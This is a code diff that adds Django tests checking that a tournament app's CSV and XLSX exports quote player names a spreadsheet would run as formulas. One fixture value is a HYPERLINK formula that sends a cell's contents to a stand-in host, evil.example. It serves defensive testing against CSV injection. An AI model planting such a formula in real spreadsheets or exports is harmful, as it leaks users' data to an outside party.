@@ -16,6 +16,7 @@ from django.template.loader import render_to_string
 from django.urls import reverse
 from django.utils import translation
 
+from club.models import Player
 from scoring import rules
 from scoring import services as scoring_services
 from scoring.models import Match
@@ -251,3 +252,75 @@ def test_standings_command_csv(good):
 def test_standings_command_unknown_tournament():
     with pytest.raises(CommandError, match="There is no tournament 999."):
         call_command("standings", "999")
+
+
+# --------------------------------------------------------------------------------------------
+# Names that a spreadsheet would run as formulas (OWASP "CSV injection")
+# --------------------------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Анна")'
+RENAMED = {"Анна Иванова": HYPERLINK, "Борис Петров": "@Борис", "Вера Колева": "-Вера"}
+
+
+@pytest.fixture
+def formulas() -> Tournament:
+    """good.csv with the names a spreadsheet would run: ranks and game points as in
+    test_importing.py (Анна +6, Борис -2, Вера -4)."""
+    rows = list(csv.reader(io.StringIO(GOOD)))
+    for row in rows[1:]:
+        row[2], row[3] = RENAMED[row[2]], RENAMED[row[3]]
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    return imported(out.getvalue().encode())
+
+
+def test_standings_csv_quotes_formula_names_and_keeps_numbers(client, formulas):
+    response = client.get(reverse("tournament_standings_csv", args=[formulas.pk]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [row[:8] for row in rows[1:]] == [
+        ["1", "'" + HYPERLINK, "2", "1", "1", "19", "13", "6"],
+        ["2", "'@Борис", "2", "1", "1", "12", "14", "-2"],
+        ["3", "'-Вера", "2", "1", "1", "15", "19", "-4"],
+    ]
+    # The difference -4 is written as the number it is, not quoted as text.
+    assert "\r\n3,'-Вера,2,1,1,15,19,-4,1,-4,15,1,\r\n" in response.content.decode("utf-8-sig")
+
+
+def test_standings_xlsx_has_formula_names_as_text_cells(client, formulas):
+    response = client.get(reverse("tournament_standings_xlsx", args=[formulas.pk]))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert [cell.value for cell in sheet[1]] == STANDINGS_HEADER.split(",")
+    names = [sheet.cell(row=row, column=2) for row in (2, 3, 4)]
+    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [
+        (HYPERLINK, "s", True), ("@Борис", "s", True), ("-Вера", "s", True),
+    ]
+    differences = [sheet.cell(row=row, column=8) for row in (2, 3, 4)]
+    assert [(cell.value, cell.data_type) for cell in differences] == [
+        (6, "n"), (-2, "n"), (-4, "n")
+    ]
+    assert sheet.cell(row=2, column=1).data_type == "n"
+    assert sheet.cell(row=2, column=13).value is None  # lots: not applied
+
+
+def test_deal_log_csv_quotes_formula_names_and_imports_back_to_them(client, formulas):
+    response = client.get(reverse("tournament_deals_csv", args=[formulas.pk]))
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert (rows[0]["player_a"], rows[0]["player_b"]) == ("'" + HYPERLINK, "'@Борис")
+    assert {row["player_a"] for row in rows} == {"'" + HYPERLINK, "'-Вера", "'@Борис"}
+    copy = imported(response.content)
+    assert sorted(entry.player.name for entry in copy.entries.all()) == sorted(RENAMED.values())
+    same_standings(formulas, copy)
+
+
+def test_standings_command_csv_quotes_formula_names(formulas):
+    out = StringIO()
+    call_command("standings", str(formulas.pk), "--format", "csv", stdout=out)
+    assert out.getvalue().splitlines()[3] == "3,'-Вера,2,1,1,15,19,-4,1,-4,15,1,"
+
+
+def test_xlsx_leaves_out_characters_a_workbook_cannot_hold(client, good):
+    Player.objects.filter(name="Вера Колева").update(name="Вера\x07 Колева")
+    response = client.get(reverse("tournament_standings_xlsx", args=[good.pk]))
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert sheet.cell(row=4, column=2).value == "Вера Колева"
